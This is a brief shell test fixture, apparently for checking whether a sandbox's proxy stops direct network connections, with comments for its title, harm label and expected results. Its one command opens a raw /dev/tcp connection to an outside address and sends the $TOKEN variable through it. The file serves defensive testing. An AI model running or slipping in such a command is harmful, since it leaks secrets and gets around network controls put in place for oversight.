# title: connects straight to a server although a proxy is set
# harm: reaches
# egress: public.example:80
# B: no network at all
# C: the gateway answers connect: only the proxy's address
exec 3<>/dev/tcp/93.184.216.34/80; echo "$TOKEN" >&3; sleep 0.2
